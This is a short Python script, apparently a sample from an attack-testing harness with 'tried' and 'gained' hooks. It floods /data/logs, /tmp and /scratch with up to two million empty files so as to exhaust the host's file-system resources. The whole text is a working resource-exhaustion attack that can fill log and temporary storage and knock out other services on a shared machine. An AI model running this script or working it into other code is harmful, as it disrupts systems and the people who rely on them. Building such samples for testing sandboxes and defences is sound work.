"""Make empty files without end: each costs the host's memory, and none has a size."""

import os

from attacker import gained, tried

tried()
made = 0
for folder in ("/data/logs", "/tmp", "/scratch"):
    try:
        while True:
            os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY))
            made += 1
            if made > 2_000_000:
                gained(f"{made} files")
                raise SystemExit
    except OSError:
        continue
